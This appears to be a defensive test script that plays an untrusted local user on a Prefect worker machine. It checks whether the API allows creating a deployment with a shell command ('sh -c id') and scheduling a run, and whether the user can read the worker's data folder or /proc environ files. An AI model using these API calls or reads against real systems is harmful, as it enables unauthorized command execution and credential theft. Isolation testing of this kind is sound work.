"""What another user of a worker's machine tries, with the standard library alone: the three calls by which Prefect's
API gives a shell, and everything that he might read. What he got is one line of JSON.

    python3 stranger.py API_URL DATA_FOLDER PID…
"""

from __future__ import annotations

import json
import os
import sys
import urllib.error
import urllib.request
from pathlib import Path

CALLS: tuple[tuple[str, dict[str, object]], ...] = (
    ("flows/", {"name": "mine"}),
    (
        "deployments/",
        {
            "name": "mine",
            "flow_id": "00000000-0000-4000-8000-000000000000",
            "work_pool_name": "van-phong",
            "entrypoint": "x:y",
            "job_variables": {"command": "sh -c id"},
        },
    ),
    ("deployments/00000000-0000-4000-8000-000000000000/create_flow_run", {"state": {"type": "SCHEDULED"}}),
    ("flow_runs/filter", {}),
    ("variables/filter", {}),
)


def status(url: str, body: object) -> int:
    asked = urllib.request.Request(url, json.dumps(body).encode(), {"content-type": "application/json"})
    try:
        with urllib.request.urlopen(asked, timeout=60) as answer:
            return int(answer.status)
    except urllib.error.HTTPError as refused:
        return refused.code


def readable(path: Path) -> bool:
    try:
        path.read_bytes()
    except OSError:
        return False
    return True


def main(api_url: str, folder: Path, pids: list[str]) -> None:
    found = [Path(root, name) for root, _, names in os.walk(folder) for name in names]
    of_processes = [Path("/proc", pid, "environ") for pid in pids]
    said = {
        "uid": os.getuid(),
        "statuses": [status(f"{api_url}/{path}", body) for path, body in CALLS],
        "read": [str(path) for path in (*found, *of_processes) if readable(path)],
        "command_lines": [Path("/proc", pid, "cmdline").read_text() for pid in pids],
    }
    print(json.dumps(said))


if __name__ == "__main__":
    main(sys.argv[1], Path(sys.argv[2]), sys.argv[3:])
